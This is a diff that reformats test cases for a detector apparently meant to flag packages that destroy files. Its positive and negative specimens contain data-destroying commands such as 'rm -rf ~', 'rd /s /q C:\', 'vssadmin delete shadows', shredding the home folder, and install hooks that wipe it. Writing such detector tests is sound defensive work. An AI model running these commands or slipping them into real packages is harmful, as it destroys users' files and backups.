@@ -6,26 +6,74 @@ const hook = (command: string): object => ({ name: 'specimen', scripts: { postin
 
 examine(destroysFiles, {
   speaks: [
-    { when: 'the home folder is deleted on import', files: { 'index.js': `${FS} fs.rmSync(os.homedir(), { recursive: true, force: true })` }, says: ['<home>, when it is imported'], weight: 'proof' },
+    {
+      when: 'the home folder is deleted on import',
+      files: { 'index.js': `${FS} fs.rmSync(os.homedir(), { recursive: true, force: true })` },
+      says: ['<home>, when it is imported'],
+      weight: 'proof',
+    },
     { when: 'a library does it', files: { 'index.js': `const { sync } = require('rimraf'); sync(process.env.HOME)` }, weight: 'proof' },
     { when: 'the project is deleted', files: { 'index.js': `${FS} fs.promises.rm(process.cwd(), { recursive: true })` }, weight: 'proof' },
-    { when: 'all that a list shows is deleted', files: { 'index.js': `${FS} for (const name of fs.readdirSync(process.cwd())) fs.rmSync(path.join(process.cwd(), name), { recursive: true })` }, weight: 'proof' },
-    { when: 'all that a list shows is overwritten', files: { 'index.js': `${FS} function walk(d) { for (const f of fs.readdirSync(d)) { const p = path.join(d, f); try { walk(p) } catch { fs.writeFileSync(p, 'INERT') } } } walk(os.homedir())` }, says: ['overwrites'], weight: 'proof' },
+    {
+      when: 'all that a list shows is deleted',
+      files: {
+        'index.js': `${FS} for (const name of fs.readdirSync(process.cwd())) fs.rmSync(path.join(process.cwd(), name), { recursive: true })`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'all that a list shows is overwritten',
+      files: {
+        'index.js': `${FS} function walk(d) { for (const f of fs.readdirSync(d)) { const p = path.join(d, f); try { walk(p) } catch { fs.writeFileSync(p, 'INERT') } } } walk(os.homedir())`,
+      },
+      says: ['overwrites'],
+      weight: 'proof',
+    },
     { when: 'a shell does it', files: { 'index.js': `${FS} cp.exec('rm -rf ~')` }, weight: 'proof' },
     { when: 'the arguments stand in a list', files: { 'index.js': `${FS} cp.spawn('rm', ['-rf', os.homedir()])` }, weight: 'proof' },
     { when: 'Windows is told to', files: { 'package.json': hook('rd /s /q C:\\') }, weight: 'proof' },
-    { when: 'the command is chosen by platform', files: { 'index.js': `${FS} cp.execSync(process.platform === 'win32' ? 'cmd /c rd /s /q %USERPROFILE%' : 'rm -rf $HOME')` } },
+    {
+      when: 'the command is chosen by platform',
+      files: { 'index.js': `${FS} cp.execSync(process.platform === 'win32' ? 'cmd /c rd /s /q %USERPROFILE%' : 'rm -rf $HOME')` },
+    },
     { when: 'shadow copies are deleted', files: { 'index.js': `${FS} cp.exec('vssadmin delete shadows /all /quiet')` }, weight: 'proof' },
     { when: 'files are shredded', files: { 'package.json': hook('find ~ -type f -exec shred -u {} +') }, weight: 'proof' },
-    { when: 'it is done when called', files: { 'index.js': `${FS} exports.x = () => fs.rmSync('/', { recursive: true })` }, weight: 'strong' },
+    {
+      when: 'it is done when called',
+      files: { 'index.js': `${FS} exports.x = () => fs.rmSync('/', { recursive: true })` },
+      weight: 'strong',
+    },
   ],
   silent: [
-    { when: 'a build cleans its output', files: { 'index.js': `${FS} fs.rmSync('dist', { recursive: true }); fs.rmSync(path.join(process.cwd(), 'build'), { recursive: true }); cp.execSync('rm -rf dist node_modules/.cache')` } },
-    { when: 'a temporary folder is removed', files: { 'index.js': `${FS} const d = fs.mkdtempSync(path.join(os.tmpdir(), 'x')); fs.rmSync(d, { recursive: true })` } },
-    { when: 'a cache in the home folder is cleared', files: { 'index.js': `${FS} exports.clear = () => fs.rmSync(path.join(os.homedir(), '.cache', 'specimen'), { recursive: true })` } },
+    {
+      when: 'a build cleans its output',
+      files: {
+        'index.js': `${FS} fs.rmSync('dist', { recursive: true }); fs.rmSync(path.join(process.cwd(), 'build'), { recursive: true }); cp.execSync('rm -rf dist node_modules/.cache')`,
+      },
+    },
+    {
+      when: 'a temporary folder is removed',
+      files: { 'index.js': `${FS} const d = fs.mkdtempSync(path.join(os.tmpdir(), 'x')); fs.rmSync(d, { recursive: true })` },
+    },
+    {
+      when: 'a cache in the home folder is cleared',
+      files: { 'index.js': `${FS} exports.clear = () => fs.rmSync(path.join(os.homedir(), '.cache', 'specimen'), { recursive: true })` },
+    },
     { when: 'one file is deleted', files: { 'index.js': `${FS} exports.one = name => fs.unlinkSync(path.join(process.cwd(), name))` } },
-    { when: 'the folder is for the caller to name', files: { 'index.js': `${FS} exports.clean = dir => { fs.rmSync(dir, { recursive: true }); cp.execSync('rm -rf ' + dir) }` } },
-    { when: 'a formatter rewrites what it finds in the project', files: { 'cli.js': `#!/usr/bin/env node\n${FS} for (const f of fs.readdirSync(process.cwd())) fs.writeFileSync(path.join(process.cwd(), f), 'x')`, 'package.json': { name: 'specimen', bin: 'cli.js' } } },
-    { when: 'a script cleans before a build', files: { 'package.json': { name: 'specimen', scripts: { postinstall: 'rm -rf build && node-gyp rebuild', clean: 'rm -rf /' } } } },
+    {
+      when: 'the folder is for the caller to name',
+      files: { 'index.js': `${FS} exports.clean = dir => { fs.rmSync(dir, { recursive: true }); cp.execSync('rm -rf ' + dir) }` },
+    },
+    {
+      when: 'a formatter rewrites what it finds in the project',
+      files: {
+        'cli.js': `#!/usr/bin/env node\n${FS} for (const f of fs.readdirSync(process.cwd())) fs.writeFileSync(path.join(process.cwd(), f), 'x')`,
+        'package.json': { name: 'specimen', bin: 'cli.js' },
+      },
+    },
+    {
+      when: 'a script cleans before a build',
+      files: { 'package.json': { name: 'specimen', scripts: { postinstall: 'rm -rf build && node-gyp rebuild', clean: 'rm -rf /' } } },
+    },
   ],
 });
